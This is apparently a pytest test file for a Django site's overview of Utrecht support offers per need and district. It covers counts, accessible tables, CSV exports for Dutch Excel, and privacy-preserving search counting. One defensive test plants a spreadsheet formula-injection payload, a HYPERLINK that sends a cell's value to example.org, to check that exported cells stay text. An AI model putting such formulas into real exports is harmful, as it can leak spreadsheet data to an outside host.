"""The overview: offer counts per need and area against known data, empty and thin cells,
links, CSV, and the anonymous search demand (nothing personal stored)."""

import csv
import datetime
import io
from html import unescape

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from aanbod.models import AanbodPage
from buurten.models import BuurtPage, WijkPage
from overzicht import coverage, demand
from overzicht.models import Zoekvraag
from tests.factories import make_offer

pytestmark = pytest.mark.django_db


@pytest.fixture
def known():
    """Two taal offers in West (one serving a buurt in Zuidwest too), one in Noordoost, one for
    the whole city; an ended and a closed one that do not count."""
    oog_in_al = BuurtPage.objects.get(title="Oog in Al")
    lombok = BuurtPage.objects.get(title="Lombok-West")
    zuidwest_buurt = (
        BuurtPage.objects.live().child_of(WijkPage.objects.get(slug="zuidwest")).first()
    )
    voordorp = BuurtPage.objects.get(title__startswith="Voordorp")
    make_offer(oog_in_al, needs=("taal", "ontmoeting"), also_serves=[zuidwest_buurt])
    make_offer(lombok, needs=("taal",))
    make_offer(voordorp, needs=("taal",))
    make_offer("stad", needs=("taal",))
    make_offer(oog_in_al, needs=("taal",), status=AanbodPage.Status.BEEINDIGD)
    make_offer(oog_in_al, needs=("taal",), status=AanbodPage.Status.TIJDELIJK_GESLOTEN)
    make_offer(oog_in_al, needs=("taal",), publish=False)
    return {"oog_in_al": oog_in_al, "lombok": lombok, "zuidwest_buurt": zuidwest_buurt}


def cell(table, need_code, area_name):
    column = [a.name for a in table.areas].index(area_name)
    row = next(cells for need, cells, _demand in table.rows if need.code == need_code)
    return row[column]


def test_city_counts_against_known_data(known):
    table = coverage.city_table()
    assert cell(table, "taal", "West").offers == 2
    assert cell(table, "taal", "Zuidwest").offers == 1  # served from Oog in Al
    assert cell(table, "taal", "Noordoost").offers == 1
    assert cell(table, "taal", "Heel Utrecht").offers == 1  # counted apart, not in the wijken
    assert cell(table, "taal", "Overvecht").offers == 0
    assert cell(table, "ontmoeting", "West").offers == 1
    assert cell(table, "taal", "West").level == "genoeg"
    assert cell(table, "taal", "Noordoost").level == "weinig"
    assert cell(table, "taal", "Overvecht").level == "leeg"


def test_wijk_counts_per_buurt(known):
    table = coverage.wijk_table(WijkPage.objects.get(slug="west"))
    assert cell(table, "taal", "Oog in Al").offers == 1
    assert cell(table, "taal", "Lombok-West").offers == 1
    assert "Heel Utrecht" not in [a.name for a in table.areas]


def test_page_is_an_accessible_table_with_words_and_links(client, known):
    response = client.get(reverse("overzicht:stad"))
    assert response.status_code == 200
    html = unescape(response.content.decode())
    # The table is named by the heading above it (a caption was cut off on a phone).
    assert 'id="overzicht-titel"' in html and 'aria-labelledby="overzicht-titel"' in html
    assert 'scope="col"' in html and 'scope="row"' in html
    assert "GEEN" in html.upper() and "weinig" in html  # words, not only a colour
    west = WijkPage.objects.get(slug="west")
    assert f"{reverse('zoeken')}?hulpvraag=taal&wijk={west.cbs_code}" in html
    assert reverse("overzicht:wijk", args=["west"]) in html
    response = client.get(reverse("overzicht:wijk", args=["west"]))
    html = unescape(response.content.decode())
    assert f"{reverse('zoeken')}?hulpvraag=taal&buurt={known['oog_in_al'].cbs_code}" in html
    assert client.get(reverse("overzicht:wijk", args=["bestaat-niet"])).status_code == 404


def test_overview_queries_are_bounded(client, known):
    """The same number of queries however many offers there are (13 today)."""

    def queries(url):
        client.get(url)
        with CaptureQueriesContext(connection) as context:
            client.get(url)
        return len(context)

    urls = (reverse("overzicht:stad"), reverse("overzicht:wijk", args=["west"]))
    before = [queries(url) for url in urls]
    for _n in range(5):
        make_offer(known["lombok"], needs=("eten", "taal"), also_serves=[known["oog_in_al"]])
    assert [queries(url) for url in urls] == before
    assert max(before) <= 14


def read_as_dutch_excel(content: bytes) -> list[list[str]]:
    """How Excel with Dutch settings opens a CSV file: UTF-8 only after a byte order mark
    (else Windows-1252, so "ë" turns into "Ã«"), cells split on ";"."""
    encoding = "utf-8-sig" if content.startswith(b"\xef\xbb\xbf") else "cp1252"
    return list(csv.reader(io.StringIO(content.decode(encoding, errors="replace")), delimiter=";"))


def test_csv_download(client, known):
    response = client.get(reverse("overzicht:stad-csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = read_as_dutch_excel(response.content)
    assert rows[0][0] == "hulpvraag-code"
    west = WijkPage.objects.get(slug="west")
    taal_west = next(r for r in rows if r[0] == "taal" and r[3] == "West")
    assert taal_west[2:] == [west.cbs_code, "West", "2", "0", "0"]
    city = next(r for r in rows if r[0] == "taal" and r[3] == "Heel Utrecht")
    assert city[4] == "1"
    wijk_rows = read_as_dutch_excel(
        client.get(reverse("overzicht:wijk-csv", args=["west"])).content
    )
    assert next(r for r in wijk_rows if r[0] == "taal" and r[3] == "Oog in Al")[4] == "1"


def test_csv_opens_in_columns_in_dutch_excel_with_accents_and_arabic_intact(client, known):
    """Dutch Excel puts a comma-separated file in one column and reads UTF-8 without a byte
    order mark as Windows-1252: every row must split into the same seven columns, and a
    buurt's "ë" and an Arabic header come back as they were."""
    oog_in_al = known["oog_in_al"]
    oog_in_al.title = "Oog in Al; Cremerbuurt ë"
    oog_in_al.save()
    for url in (reverse("overzicht:stad-csv"), reverse("overzicht:wijk-csv", args=["west"])):
        rows = read_as_dutch_excel(client.get(url).content)
        assert rows[0][:2] == ["hulpvraag-code", "hulpvraag"]
        assert len(rows) > 10 and {len(row) for row in rows} == {7}
    wijk = read_as_dutch_excel(client.get(reverse("overzicht:wijk-csv", args=["west"])).content)
    assert "Oog in Al; Cremerbuurt ë" in {row[3] for row in wijk}
    arabic = read_as_dutch_excel(client.get("/ar" + reverse("overzicht:stad-csv")).content)
    assert len(arabic[0]) == 7 and arabic[0][1] == "الحاجة"  # "hulpvraag"


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(client, known):
    oog_in_al = known["oog_in_al"]
    oog_in_al.title = '=HYPERLINK("https://example.org/?x="&A1;"Klik")'
    oog_in_al.save()
    body = client.get(reverse("overzicht:wijk-csv", args=["west"])).content
    cells = {r[3] for r in read_as_dutch_excel(body)}
    assert "'" + oog_in_al.title in cells
    assert oog_in_al.title not in cells


def test_a_search_is_counted_without_anything_personal(client, known):
    west = WijkPage.objects.get(slug="west")
    unique = "zxqv-geheim-7731 nederlands leren"
    response = client.get(
        reverse("zoeken"),
        {"q": unique, "wijk": west.cbs_code},
        REMOTE_ADDR="203.0.113.9",
        HTTP_USER_AGENT="Geheime-Browser/1.0",
    )
    assert response.status_code == 200
    assert [f.name for f in Zoekvraag._meta.get_fields()] == [
        "id",
        "day",
        "need_code",
        "wijk_code",
        "searches",
        "found_nothing",
    ]
    rows = list(Zoekvraag.objects.values())
    assert len(rows) == 1
    row = rows[0]
    assert row["need_code"] == "taal" and row["wijk_code"] == west.cbs_code
    assert row["searches"] == 1 and row["found_nothing"] == 0
    dump = repr(rows)
    for personal in ("zxqv", "geheim", "203.0.113", "Geheime-Browser"):
        assert personal not in dump
    # and nowhere else in the database either
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            if table.startswith("wagtailsearch") or "index" in table or "fts" in table:
                continue
            cursor.execute(f'SELECT * FROM "{table}"')  # noqa: S608 - table names from the database itself
            assert "zxqv" not in repr(cursor.fetchall()), table
    assert not response.cookies


def test_searches_that_find_nothing_show_as_unmet_demand(client, known):
    overvecht = WijkPage.objects.get(slug="overvecht")
    for _ in range(3):
        client.get(
            reverse("zoeken"),
            {"hulpvraag": "taal", "wijk": overvecht.cbs_code, "gratis": "1", "rolstoel": "1"},
        )
    client.get(
        reverse("zoeken"),
        {
            "hulpvraag": "taal",
            "wijk": overvecht.cbs_code,
            "gratis": "1",
            "rolstoel": "1",
            "pagina": "2",
        },
    )
    row = Zoekvraag.objects.get(need_code="taal", wijk_code=overvecht.cbs_code)
    assert row.searches == 3  # page 2 is the same search
    table = coverage.city_table()
    taal = cell(table, "taal", "Overvecht")
    assert taal.searches == 3 and taal.offers == 0 and taal.unmet
    html = unescape(client.get(reverse("overzicht:stad")).content.decode())
    assert "3× gezocht" in html and "Vraag zonder aanbod" in html


def test_counting_adds_up_and_old_days_drop_out():
    demand.record(["taal"], "WK034401", found_nothing=True)
    demand.record(["taal", "eten"], "WK034401", found_nothing=False)
    demand.record([], "", found_nothing=True)
    old = datetime.date.today() - datetime.timedelta(days=demand.DAYS_SHOWN + 5)
    demand.record(["taal"], "WK034401", found_nothing=True, day=old)
    totals = demand.totals()
    assert totals[("taal", "WK034401")] == (2, 1)
    assert totals[("eten", "WK034401")] == (1, 0)
    assert totals[("", "")] == (1, 1)


def test_only_searches_that_found_nothing_are_unmet_and_unknown_words_show(client, known):
    """No citywide offers is no unmet demand when the searches found offers in the wijken; the
    searches in which no need was understood, and found nothing, get their own row."""
    for _ in range(16):
        demand.record(["geldzaken"], "", found_nothing=False)
    for _ in range(4):
        demand.record([], "", found_nothing=True)
    table = coverage.city_table()
    geld = cell(table, "geldzaken", "Heel Utrecht")
    assert geld.searches == 16 and not geld.unmet
    assert table.not_understood[-1] == (4, 4)
    html = unescape(client.get(reverse("overzicht:stad")).content.decode())
    assert "bw-cel__alarm" not in html  # nowhere "Vraag zonder aanbod" in the table
    row = html.split(">Niet begrepen</th>", 1)[1].split("</tr>", 1)[0]
    assert "4× gezocht, 4× niets gevonden" in row
